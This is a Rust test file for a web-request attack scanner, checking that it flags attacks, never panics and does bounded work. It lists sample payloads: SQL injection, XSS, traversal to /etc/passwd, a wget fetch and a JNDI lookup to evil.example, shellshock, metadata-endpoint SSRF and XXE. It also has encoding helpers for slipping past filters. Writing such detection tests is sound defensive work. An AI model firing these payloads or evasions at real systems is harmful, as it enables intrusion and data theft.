//! What holds for every input: no panic, bounded work, and the same verdict whatever an attack is wrapped in.

#![allow(clippy::indexing_slicing)]

use portcullis_payload::arguments::{self, Request};
use portcullis_payload::pages::PAGES;
use portcullis_payload::{Family, Place, Scanner, Scratch, Settings, Source};
use proptest::prelude::*;

/// Attacks of our own, one for each way of finding them: by words, by tokens, by tags, by counting.
const ATTACKS: &[&str] = &[
    "x' OR 'a'='a",
    "1 UNION ALL SELECT name, pass FROM users--",
    "7; DROP TABLE customers--",
    "1 AND sleep(9)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "../../../../etc/passwd",
    "; wget http://evil.example/x",
    "$(uname -a)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "() { :;}; /bin/sh -c id",
    "http://169.254.169.254/latest/meta-data/",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/shadow\">]>",
    "php://filter/resource=index.php",
    "__proto__[admin]=1",
    "find_in_set(name, pass)",
    "1 or not 0",
    "; ifconfig eth7",
    "*)(uid=*))(|(uid=*",
    "{__schema{queryType{name}}}",
    "O:9:\"Something\":0:{}",
    "rO0ABXNyABFqYXZh",
    "[\"java.util.ArrayList\", []]",
    "<xi:include href=\"file:///etc/passwd\"/>",
    "self[x](7)",
];

fn refused(scanner: &Scanner, value: &[u8]) -> bool {
    let (settings, mut scratch) = (Settings::default(), Scratch::default());
    let mut inspection = scanner.begin(&settings, &mut scratch);
    inspection.value(Source { place: Place::Query, name: b"p" }, value);
    inspection.is_attack()
}

fn percent(text: &[u8], chosen: &[bool]) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, &byte) in text.iter().enumerate() {
        if byte == b'%' || chosen[i % chosen.len()] {
            out.extend_from_slice(format!("%{byte:02X}").as_bytes());
        } else {
            out.push(byte);
        }
    }
    out
}

fn percent_u(text: &[u8]) -> Vec<u8> {
    text.iter().flat_map(|byte| format!("%u{byte:04x}").into_bytes()).collect()
}

fn overlong(text: &[u8], chosen: &[bool]) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, &byte) in text.iter().enumerate() {
        if chosen[i % chosen.len()] {
            out.extend([0xc0 | byte >> 6, 0x80 | byte & 0x3f]);
        } else {
            out.push(byte);
        }
    }
    out
}

fn mixed_case(text: &[u8], chosen: &[bool]) -> Vec<u8> {
    text.iter()
        .enumerate()
        .map(|(i, b)| if chosen[i % chosen.len()] { b.to_ascii_uppercase() } else { b.to_ascii_lowercase() })
        .collect()
}

fn escapes(text: &[u8], chosen: &[bool]) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, &byte) in text.iter().enumerate() {
        match chosen[i % chosen.len()] {
            true if i % 2 == 0 => out.extend_from_slice(format!("\\u{byte:04x}").as_bytes()),
            true => out.extend_from_slice(format!("\\x{byte:02x}").as_bytes()),
            false => out.push(byte),
        }
    }
    out
}

fn entities(text: &[u8], chosen: &[bool]) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, &byte) in text.iter().enumerate() {
        match chosen[i % chosen.len()] {
            true if i % 2 == 0 => out.extend_from_slice(format!("&#{byte};").as_bytes()),
            true => out.extend_from_slice(format!("&#x{byte:x};").as_bytes()),
            false => out.push(byte),
        }
    }
    out
}

fn full_width(text: &[u8], chosen: &[bool]) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, &byte) in text.iter().enumerate() {
        match char::from_u32(0xfee0 + u32::from(byte)) {
            Some(wide) if byte > b' ' && byte < 0x7f && chosen[i % chosen.len()] => {
                out.extend_from_slice(wide.encode_utf8(&mut [0; 4]).as_bytes());
            }
            _ => out.push(byte),
        }
    }
    out
}

#[test]
fn every_attack_is_refused_as_it_stands() {
    let scanner = Scanner::new().unwrap();
    for attack in ATTACKS {
        assert!(refused(&scanner, attack.as_bytes()), "{attack}");
    }
}

#[test]
fn comments_for_blanks_hide_no_statement() {
    let scanner = Scanner::new().unwrap();
    for attack in ["1 union select name from users", "x' or 'a'='a", "1 and sleep(9)", "7; drop table customers"] {
        for blank in ["/**/", "/*x*/", "\t", "\n", "%0a", "%a0", "/**/ ", "--x\n", "#x\n"] {
            let hidden = attack.replace(' ', blank);
            assert!(refused(&scanner, hidden.as_bytes()), "{hidden:?}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn wrapping_hides_no_attack(which in 0..ATTACKS.len(), chosen in prop::collection::vec(any::<bool>(), 1..40)) {
        let scanner = Scanner::new().unwrap();
        let plain = ATTACKS[which].as_bytes();
        let once = percent(plain, &chosen);
        prop_assert!(refused(&scanner, &once), "percent");
        prop_assert!(refused(&scanner, &percent(&once, &[true])), "twice percent");
        prop_assert!(refused(&scanner, &percent(&percent(&once, &[false]), &[true])), "three times percent");
        prop_assert!(refused(&scanner, &percent_u(plain)), "percent u");
        prop_assert!(refused(&scanner, &overlong(plain, &chosen)), "overlong");
        prop_assert!(refused(&scanner, &mixed_case(plain, &chosen)), "mixed case");
        prop_assert!(refused(&scanner, &escapes(plain, &chosen)), "escapes");
        prop_assert!(refused(&scanner, &entities(plain, &chosen)), "entities");
        prop_assert!(refused(&scanner, &full_width(plain, &chosen)), "full width");
    }

    #[test]
    fn no_value_panics(value in prop::collection::vec(any::<u8>(), 0..400)) {
        let scanner = Scanner::new().unwrap();
        refused(&scanner, &value);
    }

    #[test]
    fn no_mixture_of_syntax_panics(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        let scanner = Scanner::new().unwrap();
        refused(&scanner, &pieces.concat());
    }

    #[test]
    fn no_request_panics(
        method in "[A-Z|]{0,7}",
        target in prop::collection::vec(any::<u8>(), 0..200),
        name in "[a-zA-Z-]{0,20}",
        value in prop::collection::vec(any::<u8>(), 0..100),
        kind in prop::sample::select(KINDS),
        pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60),
    ) {
        let scanner = Scanner::new().unwrap();
        let (settings, mut scratch) = (Settings { level: 3, ..Settings::default() }, Scratch::default());
        let mut inspection = scanner.begin(&settings, &mut scratch);
        let headers: [(&[u8], &[u8]); 3] = [(name.as_bytes(), &value), (b"content-type", kind.as_bytes()), (b"cookie", &value)];
        let body = pieces.concat();
        arguments::inspect(&Request { method: method.as_bytes(), target: &target, headers: &headers, body: &body }, &mut inspection);
    }
}

const KINDS: &[&str] = &[
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=b",
    "multipart/form-data; boundary=",
    "text/xml",
    "text/plain",
    "",
    ";;;",
];

const PIECES: &[&[u8]] = &[
    b"'",
    b"\"",
    b"`",
    b"--b",
    b"\r\n",
    b"\r\n\r\n",
    b"/*",
    b"*/",
    b"--",
    b"#",
    b"<",
    b">",
    b"<a ",
    b"on",
    b"=",
    b"(",
    b")",
    b"{",
    b"}",
    b"{{",
    b"${",
    b"[",
    b"]",
    b"%",
    b"%2",
    b"%25",
    b"%u",
    b"%u00",
    b"&",
    b"&#",
    b"&#x",
    b"&lt",
    b"\\",
    b"\\u",
    b"\\x",
    b"\\u{",
    b"\x00",
    b"\xc0",
    b"\xe0\x80",
    b"\xf0",
    b"\xff",
    b"..",
    b"/",
    b"//",
    b"http://",
    b"0x7f.1",
    b"select ",
    b"union ",
    b" or ",
    b"1",
    b"a",
    b"$",
    b"$$",
    b"@",
    b";",
    b"|",
    b"\n",
    b":",
    b"\"a\":",
    b"<![CDATA[",
    b"<!--",
    b"<!doctype",
    b"Content-Disposition: form-data; name=\"a\"; filename=\"",
    b"cat ",
    b"0x2e",
    b"\t",
    b"x'",
    b"::",
    b"<?",
    b"${ifs}",
    b"{a,b}",
];

/// The steps for a piece repeated `times` over.
fn steps(scanner: &Scanner, piece: &str, times: usize) -> u64 {
    let (settings, mut scratch) = (Settings { level: 3, ..Settings::default() }, Scratch::default());
    let mut inspection = scanner.begin(&settings, &mut scratch);
    inspection.value(Source { place: Place::Query, name: b"p" }, piece.repeat(times).as_bytes());
    inspection.steps()
}

#[test]
fn work_grows_no_faster_than_the_value() {
    let scanner = Scanner::new().unwrap();
    let hostile = [
        "a",
        "'",
        "\"'",
        "(",
        "((",
        ")(",
        "[",
        "{{",
        "${",
        "<",
        "<a ",
        "<!",
        "/*",
        "--",
        "\n--",
        "select ",
        "select from ",
        "union ",
        "union select ",
        "or 1 ",
        "exec ",
        "cat ",
        ";cat ",
        "|",
        "`id",
        "$(",
        "alert(",
        "java ",
        "javascript ",
        "document.",
        "constructor.",
        "../",
        "..",
        "//",
        "http://",
        "%25",
        "&#",
        "\\u",
        "&lt;",
        "0x",
        "<svg onload",
        "case when ",
        "if (",
        "declare ",
        "waitfor ",
        "insert into a ",
        "<!doctype ",
        "<!entity ",
        "{%",
        "#{",
        "php:",
        "file:/",
        "for %",
        "o:1:",
        "a:1:{i",
        "java.lang.",
        "jndi:",
        "get ",
        "content-type ",
        "\r\n",
        "\n\r",
        "__proto__",
        "*)(",
        ")(|(",
        "//a[",
        "count(",
        "{__schema",
        "<!--#",
        "=on",
        " onload",
        "'or'",
    ];
    for piece in hostile {
        let small = steps(&scanner, piece, 4_000 / piece.len());
        let large = steps(&scanner, piece, 64_000 / piece.len());
        assert!(large <= small.max(2_000) * 16 * 3 / 2, "{piece:?}: {small} steps for 4 KB, {large} for 64 KB");
    }
}

/// What a worker remembers of values that held nothing changes no verdict: neither for another place or level, nor for a policy with other
/// exceptions.
#[test]
fn what_was_judged_before_is_judged_alike() {
    const PLACES: [Place; 9] = [
        Place::Query,
        Place::Cookie,
        Place::Header,
        Place::Path,
        Place::Referer,
        Place::UserAgent,
        Place::Name,
        Place::Json,
        Place::Text,
    ];
    let scanner = Scanner::new().unwrap();
    let lax = Settings { without: Family::ALL.to_vec(), ..Settings::default() };
    let levels = [1, 2, 3].map(|level| Settings { level, ..Settings::default() });
    let judged = |settings: &Settings, place: Place, value: &str, scratch: &mut Scratch| {
        let mut inspection = scanner.begin(settings, scratch);
        inspection.value(Source { place, name: b"p" }, value.as_bytes());
        let verdict = inspection.finish();
        Family::ALL.map(|family| verdict.score(family))
    };
    let cases = PAGES.iter().flat_map(|page| page.matches.iter().chain(page.passes));
    let mut scratch = Scratch::default();
    for case in cases {
        for place in PLACES {
            judged(&lax, place, case, &mut scratch);
            for settings in &levels {
                let fresh = judged(settings, place, case, &mut Scratch::default());
                for _ in 0..2 {
                    let again = judged(settings, place, case, &mut scratch);
                    assert_eq!(again, fresh, "{case:?} in {place:?} at level {}", settings.level);
                }
            }
        }
    }
}
